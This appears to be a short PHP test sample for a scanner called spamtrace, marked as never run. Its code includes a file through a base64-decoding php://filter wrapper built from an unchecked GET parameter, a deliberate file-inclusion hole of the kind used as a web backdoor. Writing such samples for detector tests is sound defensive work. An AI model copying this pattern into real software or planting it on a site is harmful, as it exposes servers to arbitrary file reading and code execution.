<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$u = 'php://filter/read=convert.base64-decode/resource=' . $_GET['f'];
include $u;
